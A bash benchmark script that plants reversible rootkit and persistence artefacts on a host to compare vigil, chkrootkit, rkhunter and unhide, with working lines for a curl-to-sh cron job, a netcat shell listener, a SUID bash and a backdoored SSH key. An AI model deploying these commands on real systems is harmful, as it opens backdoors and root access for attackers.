#!/usr/bin/env bash
# Plants issue 3's artefacts on THIS host, reversibly, then runs vigil triage, chkrootkit -q,
# rkhunter --check --sk and unhide (quick + tcp) on the same state, timing each, and tabulates
# which artefacts each tool reports. Needs root; everything planted is removed on exit.
# Nothing here contacts the network: the cron line is scheduled for 31 February.
set -euo pipefail
cd "$(dirname "$0")/.."
[ "$(id -u)" -eq 0 ] || { echo "bench/rootkit.sh: needs root (it plants and removes system files)"; exit 2; }
for t in chkrootkit rkhunter unhide-linux unhide-tcp nc.traditional; do
  command -v $t >/dev/null || { echo "bench/rootkit.sh: needs $t (make setup)"; exit 2; }
done
VIGIL=${VIGIL:-./build/vigil}
OUT=bench/out/rootkit
mkdir -p "$OUT"
BK=$(mktemp -d)
pids=()
had_preload=0; [ -e /etc/ld.so.preload ] && { had_preload=1; cp -a /etc/ld.so.preload "$BK/"; }
had_keys=0; [ -e /root/.ssh/authorized_keys ] && { had_keys=1; cp -a /root/.ssh/authorized_keys "$BK/"; }
had_www=0; [ -d /var/www ] && had_www=1
cp -a /usr/bin/w "$BK/w"
cleanup() {
  kill "${pids[@]}" 2>/dev/null || true
  wait 2>/dev/null || true
  cp -a "$BK/w" /usr/bin/w
  if [ $had_preload = 1 ]; then cp -a "$BK/ld.so.preload" /etc/; else rm -f /etc/ld.so.preload; fi
  if [ $had_keys = 1 ]; then cp -a "$BK/authorized_keys" /root/.ssh/; else rm -f /root/.ssh/authorized_keys; fi
  rm -rf /etc/cron.d/vigil-bench-sync /etc/systemd/system/vigil-bench-kworker.service /tmp/.x '/var/tmp/...' \
    /dev/xdf1 /tmp/vigil-bench /var/www/html/img/logo.jpg "$BK"
  [ $had_www = 1 ] || rm -rf /var/www
}
trap cleanup EXIT

# --- plant -----------------------------------------------------------------------------
echo '0 0 31 2 * root curl -fsSL http://198.51.100.9/i.sh | sh' > /etc/cron.d/vigil-bench-sync
mkdir -p /tmp/.x && cp /bin/true /tmp/.x/miner
printf '[Service]\nExecStart=/tmp/.x/miner --donate-level 0\n' > /etc/systemd/system/vigil-bench-kworker.service
ls /usr/lib/x86_64-linux-gnu/libm.so.6 > /etc/ld.so.preload  # a harmless library: every program loads it
mkdir -p /root/.ssh
echo 'command="/bin/bash -i",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB3nchB3nchB3nchB3nchB3nchB3nchB3nch vigil-bench' >> /root/.ssh/authorized_keys
mkdir -p '/var/tmp/...' && cp /bin/bash '/var/tmp/.../sh' && chmod 4755 '/var/tmp/.../sh'
echo 'sniffed' > /dev/xdf1
printf '\0' >> /usr/bin/w
mkdir -p /var/www/html/img && cp /bin/true /var/www/html/img/logo.jpg
mkdir -p /tmp/vigil-bench
cp "$(command -v nc.traditional)" /tmp/vigil-bench/msupdate
/tmp/vigil-bench/msupdate -l -p 3349 -s 127.0.0.1 -e /bin/sh </dev/null >/dev/null 2>&1 & pids+=($!)
cp /bin/sleep /tmp/vigil-bench/kworker
bash -c 'exec -a "[kworker/0:1]" /tmp/vigil-bench/kworker 600' & pids+=($!)
sleep 0.5; rm -f /tmp/vigil-bench/kworker

# --- run -------------------------------------------------------------------------------
run() {  # name, command…: output to $OUT/name.out, wall seconds to $OUT/name.time
  local name=$1; shift
  /usr/bin/time -f %e -o "$OUT/$name.time" "$@" > "$OUT/$name.out" 2>"$OUT/$name.err" || true
  cat "$OUT/$name.err" >> "$OUT/$name.out"
  printf '%-12s %6ss\n' "$name" "$(tail -1 "$OUT/$name.time")"
}
echo "host: $(nproc) cores, $(grep -m1 'model name' /proc/cpuinfo | cut -d: -f2 | xargs)"
run vigil "$VIGIL" triage --format jsonl --no-suppress --timings
run vigil-quick "$VIGIL" triage --quick --format jsonl --no-suppress
run chkrootkit chkrootkit -q
run rkhunter rkhunter --check --sk --nocolors --rwo
run unhide bash -c 'unhide-linux quick; unhide-tcp'
hyperfine -i -N -w 1 -r 5 --export-json "$OUT/vigil-hyperfine.json" "$VIGIL triage --format jsonl --no-suppress" \
  2>/dev/null | grep -E "Time|Range" || true

# --- which artefacts each tool reported ------------------------------------------------
artefacts=(
  "cron line piping curl to sh|vigil-bench-sync"
  "systemd unit running /tmp/.x/miner|vigil-bench-kworker|/tmp/\.x/miner"
  "non-empty /etc/ld.so.preload|ld\.so\.preload|preloaded shared library"
  "authorized key with command=|authorized_keys"
  "SUID copy of bash in /var/tmp/...|/var/tmp/\.\.\."
  "regular file under /dev (/dev/xdf1)|xdf1"
  "modified package file (/usr/bin/w)|/usr/bin/w([^a-zA-Z0-9_.-]|\$)"
  "ELF named .jpg under a web root|logo\.jpg"
  "renamed netcat serving a shell on 3349|msupdate|3349"
  "deleted program disguised as [kworker/0:1]|vigil-bench/kworker"
)
{
  echo "| planted artefact | vigil | chkrootkit -q | rkhunter --check | unhide |"
  echo "|---|---|---|---|---|"
  for a in "${artefacts[@]}"; do
    label=${a%%|*}; pattern=${a#*|}
    row="| $label |"
    for tool in vigil chkrootkit rkhunter unhide; do
      if grep -Eq -- "$pattern" "$OUT/$tool.out"; then row="$row yes |"; else row="$row no |"; fi
    done
    echo "$row"
  done
} | tee "$OUT/table.md"
